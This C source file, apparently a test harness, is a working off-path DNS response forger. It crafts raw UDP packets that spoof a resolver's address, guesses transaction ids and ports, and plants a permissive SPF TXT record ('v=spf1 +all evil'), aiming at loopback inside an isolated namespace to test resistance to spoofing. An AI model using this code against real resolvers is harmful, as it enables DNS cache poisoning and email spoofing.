/*
 * An off-path forger: sprays responses that come, by their addresses, from the resolver that is asked.
 *
 *     forger SERVER PORT NAME PACKETS any|known
 *
 * It knows whom we ask (an IPv4 address and port) and what (NAME, TXT, in lower case); it does not
 * see our packets.  The id is drawn at random for each packet.  The destination port is drawn at
 * random too ("any"), or read out of /proc/net/udp for every batch ("known").  Ends after PACKETS
 * packets, or when its stdin ends, and prints how many were sent.
 *
 * Needs CAP_NET_RAW: run it in a network namespace of its own.
 *
 * SPDX-License-Identifier: MIT
 */
#define _GNU_SOURCE

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <unistd.h>

#define BATCH       64u
#define PACKET_MAX  512u
#define IP_HEAD     20u
#define UDP_HEAD    8u
#define HEADS       (IP_HEAD + UDP_HEAD)
#define PORT_LOWEST 1024u
#define TEXT        "v=spf1 +all evil"

static uint8_t packets[BATCH][PACKET_MAX];
static struct mmsghdr messages[BATCH];
static struct iovec parts[BATCH];
static struct sockaddr_in to = {.sin_family = AF_INET};
static size_t packet_len;
static uint64_t state;

/* xorshift64*: speed matters here, secrecy does not. */
static uint32_t draw(void)
{
    state ^= state >> 12;
    state ^= state << 25;
    state ^= state >> 27;
    return (uint32_t)((state * 0x2545f4914f6cdd1dull) >> 32);
}

static void put16(uint8_t *at, unsigned n)
{
    at[0] = (uint8_t)(n >> 8);
    at[1] = (uint8_t)n;
}

static size_t put_name(uint8_t *at, const char *name)
{
    size_t len = 0;

    while (*name != '\0') {
        size_t label = strcspn(name, ".");

        if (label == 0 || label > 63 || len + label + 2 > 255) {
            fprintf(stderr, "forger: not a name\n");
            exit(2);
        }
        at[len] = (uint8_t)label;
        memcpy(at + len + 1, name, label);
        len += 1 + label;
        name += label + (name[label] == '.');
    }
    at[len] = 0;
    return len + 1;
}

/* A response with everything right but the id and, perhaps, the port. */
static size_t make_packet(uint8_t *out, in_addr_t server, unsigned port, const char *name)
{
    static const uint8_t head[12] = {0, 0, 0x85, 0x80, 0, 1, 0, 1, 0, 0, 0, 0};
    static const uint8_t question[4] = {0, 16, 0, 1};
    static const uint8_t record[10] = {0xc0, 0x0c, 0, 16, 0, 1, 0, 0, 0x0e, 0x10};
    size_t len = HEADS;

    memcpy(out + len, head, sizeof(head));
    len += sizeof(head);
    len += put_name(out + len, name);
    memcpy(out + len, question, sizeof(question));
    len += sizeof(question);
    memcpy(out + len, record, sizeof(record));
    len += sizeof(record);
    put16(out + len, sizeof(TEXT));
    out[len + 2] = sizeof(TEXT) - 1;
    memcpy(out + len + 3, TEXT, sizeof(TEXT) - 1);
    len += 2 + sizeof(TEXT);

    out[0] = 0x45; /* the kernel fills in length, id and checksum */
    out[8] = 64;
    out[9] = IPPROTO_UDP;
    memcpy(out + 12, &server, 4);
    memcpy(out + 16, &to.sin_addr, 4);
    put16(out + IP_HEAD, port);
    put16(out + IP_HEAD + 4, (unsigned)(len - IP_HEAD));
    put16(out + IP_HEAD + 6, 0); /* no checksum: allowed over IPv4 */
    return len;
}

/* Local ports of sockets that are connected to the server, as the kernel shows them. */
static size_t spy(in_addr_t server, unsigned port, unsigned *out, size_t max)
{
    FILE *file = fopen("/proc/net/udp", "r");
    char line[256];
    size_t count = 0;

    if (!file) {
        perror("forger: /proc/net/udp");
        exit(2);
    }
    while (count < max && fgets(line, sizeof(line), file)) {
        unsigned local, peer_port;
        uint32_t peer;

        if (sscanf(line, " %*d: %*8x:%x %8x:%x", &local, &peer, &peer_port) == 3 &&
            peer == server && peer_port == port) {
            out[count++] = local;
        }
    }
    fclose(file);
    return count;
}

static bool is_told_to_end(void)
{
    struct pollfd in = {.fd = STDIN_FILENO, .events = POLLIN};
    char byte;

    return poll(&in, 1, 0) > 0 && read(STDIN_FILENO, &byte, 1) <= 0;
}

static void send_batch(int raw, size_t count)
{
    size_t done = 0;

    while (done < count) {
        int sent = sendmmsg(raw, messages + done, (unsigned)(count - done), 0);

        if (sent < 0 && errno != EAGAIN && errno != ENOBUFS && errno != EINTR &&
            errno != ECONNREFUSED) {
            perror("forger: sendmmsg");
            exit(2);
        }
        done += sent > 0 ? (size_t)sent : 0;
    }
}

static size_t aim(bool knows_port, in_addr_t server, unsigned port)
{
    unsigned known[16];
    size_t known_count = knows_port ? spy(server, port, known, 16) : 0;
    size_t i;

    if (knows_port && known_count == 0) {
        return 0;
    }
    for (i = 0; i < BATCH; i++) {
        unsigned target =
            knows_port ? known[i % known_count] : PORT_LOWEST + draw() % (65536u - PORT_LOWEST);

        put16(packets[i] + IP_HEAD + 2, target);
        put16(packets[i] + HEADS, draw());
    }
    return BATCH;
}

int main(int argc, char **argv)
{
    unsigned long sent = 0, wanted;
    in_addr_t server;
    unsigned port;
    bool knows_port;
    size_t i;
    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

    if (argc != 6 || raw < 0) {
        perror("forger: needs SERVER PORT NAME PACKETS any|known, and CAP_NET_RAW");
        return 2;
    }
    server = inet_addr(argv[1]);
    port = (unsigned)strtoul(argv[2], NULL, 10);
    wanted = strtoul(argv[4], NULL, 10);
    knows_port = strcmp(argv[5], "known") == 0;
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (getrandom(&state, sizeof(state), 0) != sizeof(state)) {
        return 2;
    }
    state |= 1;
    for (i = 0; i < BATCH; i++) {
        packet_len = make_packet(packets[i], server, port, argv[3]);
        parts[i] = (struct iovec){packets[i], packet_len};
        messages[i].msg_hdr = (struct msghdr){
            .msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &parts[i], .msg_iovlen = 1};
    }
    while (sent < wanted && !is_told_to_end()) {
        size_t count = aim(knows_port, server, port);

        if (count == 0) {
            usleep(100);
        }
        send_batch(raw, count);
        sent += count;
    }
    printf("%lu\n", sent);
    return 0;
}
